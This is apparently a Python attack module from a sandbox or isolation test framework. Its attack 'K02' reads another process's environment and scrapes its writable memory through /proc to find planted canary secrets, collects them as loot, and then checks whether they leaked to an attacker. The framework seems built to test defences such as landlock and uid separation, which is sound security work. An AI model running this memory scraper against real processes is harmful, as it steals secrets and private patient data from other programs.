"""K02: open therapy's memory and environment as files, look for its secrets, send them out."""

from __future__ import annotations

from faults.attack import Attack, CannotTell, Effect, Injection, Parameters, Report
from faults.implant import victim
from faults.implant.foothold import Foothold
from faults.seen import Observations

CANARY_PREFIX = b"CANARY" + b"-"
CANARY_BYTES = 32
CANARIES_MAX = 4
SCANNED_BYTES_MAX = 512 << 20


def inject(foothold: Foothold, parameters: Parameters) -> Report:
    """``run_pid`` (required), ``victim`` ("therapy")."""
    search = victim.find(str(parameters.get("victim", "therapy")), int(parameters.get("run_pid", 0)))
    if not search.pids:
        return victim.not_found(search)
    report: Report = {"victims": len(search.pids), "canaries": 0, "environment_bytes": 0, "errors": []}
    for pid in search.pids:
        try:
            with open(f"/proc/{pid}/environ", "rb") as file:
                report["environment_bytes"] += len(file.read(65_536))
            loot = _canaries(pid)
        except OSError as error:
            report["errors"].append(str(error))
            continue
        report["canaries"] += len(loot)
        for canary in loot:
            foothold.loot("K02", canary)
    return report


def _canaries(pid: int) -> list[bytes]:
    """The distinct canaries in a process's memory, read through ``/proc/PID/mem``. Raises ``OSError``."""
    found: list[bytes] = []
    total = 0
    with (
        open(f"/proc/{pid}/maps", encoding="utf-8", errors="replace") as maps,
        open(f"/proc/{pid}/mem", "rb") as mem,
    ):
        for line in maps:
            span, rights = line.split()[:2]
            low, _, high = span.partition("-")
            start, end = int(low, 16), int(high, 16)
            total += end - start
            if not rights.startswith("rw") or total > SCANNED_BYTES_MAX:
                continue
            try:
                mem.seek(start)
                data = mem.read(end - start)
            except (OSError, ValueError, OverflowError):
                continue  # a hole such as [vvar]
            at = data.find(CANARY_PREFIX)
            while at >= 0 and len(found) < CANARIES_MAX:
                canary = data[at : at + CANARY_BYTES]
                if len(canary) == CANARY_BYTES and canary not in found:
                    found.append(canary)
                at = data.find(CANARY_PREFIX, at + 1)
    return found


def effect(seen: Observations, injection: Injection) -> Effect:
    """A planted secret turned up in something the attacker sent or wrote."""
    if not seen.canaries:
        raise CannotTell(
            "no canary was planted; let the world's configs() give a critical partition a secret that begins with "
            f"{CANARY_PREFIX.decode()} and goes on with 24 letters or digits"
        )
    where = {f"the upload of frame {one.frame}": payload for one, payload in seen.payloads(injection)}
    for index, got in enumerate(seen.received or ()):
        where[f"what arrived at the attacker's server ({got.door}, {index})"] = got.data
    for line in seen.log_lines:
        if line.partition == seen.attacker and injection.covers(line.frame):
            where[f"the log of frame {line.frame}"] = line.text.encode()
    for place, data in where.items():
        if any(canary in data for canary in seen.canaries):
            return Effect(True, f"A secret of {seen.victim} turned up in {place}.")
    return Effect(False, f"No secret of {seen.victim} turned up in anything the attacker sent.")


ATTACK = Attack(
    "K02",
    "It tries to read the patient's secrets out of therapy's memory and send them out.",
    effect,
    inject,
    needs=("victim",),
    walls=("procfs", "uid", "landlock", "dumpable"),
)
